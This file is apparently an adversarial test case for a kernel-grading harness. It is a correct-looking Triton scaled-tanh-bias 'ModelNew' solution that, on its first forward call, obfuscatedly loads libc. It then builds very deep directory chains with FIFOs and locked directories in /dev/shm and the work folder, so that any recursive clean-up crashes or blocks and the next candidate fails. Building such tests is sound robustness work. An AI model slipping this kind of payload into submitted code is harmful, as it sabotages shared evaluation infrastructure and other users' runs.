# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=verdict_not_neighbours expect=ok|runtime_error|forbidden|crashed device=cpu then=data/query_solutions/001_scaled_tanh_bias.py
"""n09's slot killer against the new clean-up: the work folder and /dev/shm are now fresh tmpfs mounts of the
 candidate's own (1 GiB / 65536 inodes and 256 MiB / 4096 inodes, recon), and a dead fork server is restarted.
 The candidate does the work correctly and, in its first forward, fills both with what a recursive clean-up
 or walk chokes on: a 4000-deep chain in /dev/shm, a 60000-deep chain in its work folder (libc mkdirat/openat
 relative to the previous directory, so no path exceeds PATH_MAX), a mode-000 directory at the top and a FIFO
 at the bottom of each chain (a walker that opens it blocks). If anything still walks these folders after the
 candidate (a recursive rmtree before the unmount, a scan for leftovers), it dies on the depth or blocks on
 the FIFO, and the next candidate of the slot gets infra_error or a timeout. A sound evaluator drops both
 mounts without walking them: the follower's two results are equal."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)
_libc.time.restype = _ct.c_long


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _read(path):
    fd = _libc.open(path, 0)
    if fd < 0:
        return b""
    buf, data = _ct.create_string_buffer(65536), b""
    while True:
        n = _libc.read(fd, buf, 65536)
        if n <= 0:
            break
        data += buf.raw[:n]
    _libc.close(fd)
    return data

O_DIRECTORY = 0o200000
S_IFIFO = 0o010000


def _chain(base, depth):
    if _libc.mkdir(base, 0o755) < 0:
        return 0
    fd = _libc.open(base, O_DIRECTORY)
    made = 0
    for _ in range(depth):
        if fd < 0 or _libc.mkdirat(fd, b"d", 0o755) < 0:
            break
        nfd = _libc.openat(fd, b"d", O_DIRECTORY)
        _libc.close(fd)
        fd = nfd
        made += 1
    if fd >= 0:
        _libc.mknodat(fd, b"fifo", S_IFIFO | 0o644, 0)
        _libc.close(fd)
    _libc.mkdir(base + b"-locked", 0)
    return made


_built = []


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        out = stb(x, self.bias, self.scale)
        if not _built:
            _built.append((_chain(b"/dev/shm/p08", 4000), _chain(b"p08-chain", 60000)))
        return out
